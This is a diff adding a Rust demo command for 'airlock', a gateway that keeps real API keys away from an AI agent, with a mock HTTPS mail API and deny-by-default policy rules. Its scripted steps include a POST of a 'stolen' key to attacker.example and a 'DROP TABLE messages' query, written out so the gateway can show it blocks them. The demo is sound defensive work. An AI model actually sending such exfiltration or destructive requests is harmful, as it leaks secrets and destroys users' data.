@@ -1,0 +1,290 @@
+//! `airlock demo`: the whole idea in a minute. A gateway on free ports in a temporary
+//! directory, a local HTTPS "mail API", a sealed demo key, and a scripted agent that holds
+//! only the placeholder.
+
+use std::sync::Arc;
+
+use airlock_core::audit::AuditEvent;
+use airlock_vault::{MasterKey, SecretBytes};
+use anyhow::Context;
+use bytes::Bytes;
+use http::{Request, Response, StatusCode};
+use http_body_util::Full;
+use hyper::body::Incoming;
+use hyper_util::rt::TokioIo;
+use tokio::net::TcpListener;
+
+use crate::client::{Route, send};
+use crate::home::{Home, create_data, now_ms, random_token, row};
+
+const PLACEHOLDER: &str = "airlock-gmail";
+
+fn config(api_port: u16) -> String {
+    format!(
+        r#"# The demo's policy: reads allowed, deletes denied, schema changes denied.
+[gateway]
+listen = "127.0.0.1:0"
+control = "127.0.0.1:0"
+default = "deny"
+data_dir = "data"
+allow_private = ["127.0.0.1:{api_port}"]   # the local mail API
+upstream_ca = ["upstream-ca.pem"]
+
+[[agents]]
+name = "mailbot"
+secrets = ["gmail"]
+
+[secrets.gmail]
+hosts = ["localhost"]
+header = "Authorization"
+format = "Bearer {{secret}}"
+placeholder = "{PLACEHOLDER}"
+env = "GMAIL_TOKEN"
+
+[[rules]]
+name = "gmail reads"
+hosts = ["localhost"]
+methods = ["GET"]
+paths = ["/gmail/v1/**"]
+action = "allow"
+
+[[rules]]
+name = "no deletes"
+hosts = ["localhost"]
+methods = ["DELETE"]
+action = "deny"
+reason = "deleting mail is not allowed for agents; archive instead"
+
+[[rules]]
+name = "sql reads"
+hosts = ["localhost"]
+methods = ["POST"]
+paths = ["/v1/sql"]
+body = {{ sql = ["read"] }}
+action = "allow"
+
+[[rules]]
+name = "no schema changes"
+hosts = ["localhost"]
+methods = ["POST"]
+paths = ["/v1/sql"]
+body = {{ sql = ["ddl"] }}
+action = "deny"
+"#
+    )
+}
+
+/// The local "mail API": it checks that the real key arrived, and has a debug endpoint
+/// that echoes the Authorization header back (to show scrubbing).
+async fn mail_api(req: Request<Incoming>, real: Arc<String>) -> Response<Full<Bytes>> {
+    let auth = req
+        .headers()
+        .get("authorization")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or("")
+        .to_string();
+    let good = auth == format!("Bearer {real}");
+    let path = req.uri().path().to_string();
+    let (status, body) = match (good, path.as_str()) {
+        (false, _) => (
+            StatusCode::UNAUTHORIZED,
+            serde_json::json!({"error": "invalid API key"}),
+        ),
+        (true, "/gmail/v1/users/me/debug/echo") => (StatusCode::OK, serde_json::json!({"you_sent": auth})),
+        (true, _) => (
+            StatusCode::OK,
+            serde_json::json!({"messages": [{"id": "m1", "subject": "Quarterly numbers"}], "auth": "the real API key arrived"}),
+        ),
+    };
+    let mut r = Response::new(Full::new(Bytes::from(body.to_string())));
+    *r.status_mut() = status;
+    r
+}
+
+async fn start_mail_api(dir: &std::path::Path, real: Arc<String>) -> anyhow::Result<u16> {
+    let (ca, files) = airlock_tls::CertificateAuthority::generate("demo upstream CA")?;
+    std::fs::write(dir.join("upstream-ca.pem"), &files.cert_pem)?;
+    let leaves = airlock_tls::LeafCache::new(Arc::new(ca), 4);
+    let key = leaves.get("localhost")?;
+    let provider = Arc::new(rustls::crypto::ring::default_provider());
+    let cfg = rustls::ServerConfig::builder_with_provider(provider)
+        .with_safe_default_protocol_versions()?
+        .with_no_client_auth()
+        .with_cert_resolver(Arc::new(airlock_tls::FixedCert(key)));
+    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(cfg));
+    let listener = TcpListener::bind("127.0.0.1:0").await?;
+    let port = listener.local_addr()?.port();
+    tokio::spawn(async move {
+        while let Ok((tcp, _)) = listener.accept().await {
+            let (acceptor, real) = (acceptor.clone(), real.clone());
+            tokio::spawn(async move {
+                let Ok(tls) = acceptor.accept(tcp).await else { return };
+                let svc = hyper::service::service_fn(move |req| {
+                    let real = real.clone();
+                    async move { Ok::<_, std::convert::Infallible>(mail_api(req, real).await) }
+                });
+                let _ = hyper::server::conn::http1::Builder::new()
+                    .serve_connection(TokioIo::new(tls), svc)
+                    .await;
+            });
+        }
+    });
+    Ok(port)
+}
+
+fn short(body: &Bytes) -> String {
+    let v: serde_json::Value = serde_json::from_slice(body).unwrap_or(serde_json::Value::Null);
+    if let Some(r) = v.pointer("/airlock/reason").and_then(|r| r.as_str()) {
+        return r.to_string();
+    }
+    String::from_utf8_lossy(body).trim().chars().take(160).collect()
+}
+
+pub async fn run() -> anyhow::Result<()> {
+    let tmp = tempfile::tempdir()?;
+    let dir = tmp.path();
+    let real = Arc::new(format!("demo-real-key-{}", &random_token()[..16]));
+    let api_port = start_mail_api(dir, real.clone()).await?;
+    let cfg_path = dir.join("airlock.toml");
+    std::fs::write(&cfg_path, config(api_port))?;
+    let home = Home::load(&cfg_path)?;
+    std::fs::create_dir_all(home.data_dir())?;
+    let key = MasterKey::generate();
+    key.write_new_file(home.master_key_path())?;
+    create_data(&home, key).await?;
+    let opened = home.open().await?;
+    opened
+        .store
+        .put_secret(&row(
+            &opened
+                .vault
+                .seal("gmail", 1, &SecretBytes::new(real.as_bytes().to_vec())),
+            now_ms(),
+        ))
+        .await?;
+    let token = random_token();
+    opened
+        .store
+        .add_agent(&airlock_store::AgentRow {
+            name: "mailbot".into(),
+            token_hash: airlock_gateway::token_hash(&token).to_vec(),
+            created_ms: now_ms(),
+        })
+        .await?;
+    let proxy = TcpListener::bind("127.0.0.1:0").await?;
+    let control = TcpListener::bind("127.0.0.1:0").await?;
+    let running = crate::serve::start(&home, opened, proxy, control).await?;
+    let proxy_url = format!("http://mailbot:{token}@{}", running.proxy_addr);
+    let ca = std::fs::read(home.ca_cert_path())?;
+    let route = Route::new(Some(&proxy_url), &[&ca])?;
+
+    println!("airlock demo: a gateway, a local HTTPS mail API, and an agent that holds only a placeholder.\n");
+    println!(
+        "  gateway  proxy {} · control {} · data {}",
+        running.proxy_addr,
+        running.control_addr,
+        home.data_dir().display()
+    );
+    println!(
+        "  agent    mailbot, GMAIL_TOKEN={PLACEHOLDER}  (the real key is sealed in the vault; the agent never sees it)\n"
+    );
+
+    let base = format!("https://localhost:{api_port}");
+    let steps: [(&str, &str, String, &str, Option<&str>); 5] = [
+        (
+            "1",
+            "read mail",
+            format!("{base}/gmail/v1/users/me/messages"),
+            "GET",
+            None,
+        ),
+        (
+            "1b",
+            "API echoes the key back",
+            format!("{base}/gmail/v1/users/me/debug/echo"),
+            "GET",
+            None,
+        ),
+        (
+            "2",
+            "delete mail",
+            format!("{base}/gmail/v1/users/me/messages/m1"),
+            "DELETE",
+            None,
+        ),
+        (
+            "3",
+            "send the key elsewhere",
+            "https://attacker.example/collect".to_string(),
+            "POST",
+            Some("{\"stolen\":\"airlock-gmail\"}"),
+        ),
+        (
+            "4",
+            "change the schema",
+            format!("{base}/v1/sql"),
+            "POST",
+            Some("{\"query\":\"DROP TABLE messages\"}"),
+        ),
+    ];
+    for (n, what, url, method, body) in steps {
+        let uri: http::Uri = url.parse()?;
+        let host = uri.host().context("host")?.to_string();
+        let port = uri.port_u16().unwrap_or(443);
+        println!("[{n}] {what:<24} {method} {url}");
+        let mut conn = route.connect(&host, port).await?;
+        let req = Request::builder()
+            .method(method)
+            .uri(uri.path())
+            .header("host", uri.authority().map_or(host.clone(), |a| a.to_string()))
+            .header("authorization", format!("Bearer {PLACEHOLDER}"))
+            .header("content-type", "application/json")
+            .body(Full::new(Bytes::from(body.unwrap_or("").to_string())))?;
+        let (resp, bytes) = send(&mut conn, req).await?;
+        let decision = resp
+            .headers()
+            .get("x-airlock-decision")
+            .and_then(|v| v.to_str().ok())
+            .unwrap_or("-")
+            .to_string();
+        println!("     → {} {decision}: {}", resp.status().as_u16(), short(&bytes));
+        if bytes.windows(real.len()).any(|w| w == real.as_bytes()) {
+            anyhow::bail!("the real key reached the agent: the demo found a bug");
+        }
+    }
+
+    running.shutdown().await?;
+    let opened = home.open().await?;
+    println!("\naudit trail ({}):", home.db_path().display());
+    for r in opened.store.audit_tail(20).await? {
+        if let Ok(ev) = serde_json::from_slice::<AuditEvent>(&r.body) {
+            println!("  {}", audit_line(r.seq, &ev));
+        }
+    }
+    let pk = opened.signer.public_key();
+    let verify = |pk: &[u8], m: &[u8], s: &[u8]| {
+        <[u8; 32]>::try_from(pk).is_ok_and(|k| airlock_vault::verify_signature(&k, m, s))
+    };
+    let report = airlock_store::verify_chain(&opened.store, verify, &pk).await?;
+    println!(
+        "\naudit verify: chain intact, {} records, {} signed checkpoint(s).",
+        report.records, report.checkpoints
+    );
+    println!("The real key never left the gateway: the agent held \"{PLACEHOLDER}\" throughout.");
+    Ok(())
+}
+
+/// One readable line per audit record.
+pub fn audit_line(seq: i64, ev: &AuditEvent) -> String {
+    format!(
+        "#{seq:<3} {:<12} {:<5} {:<6} {} {}{} → {} ({})",
+        ev.kind,
+        ev.decision,
+        ev.method.as_deref().unwrap_or("-"),
+        ev.agent.as_deref().unwrap_or("-"),
+        ev.host.as_deref().unwrap_or("-"),
+        ev.path.as_deref().unwrap_or(""),
+        ev.status.map_or("-".to_string(), |s| s.to_string()),
+        ev.reason
+    )
+}
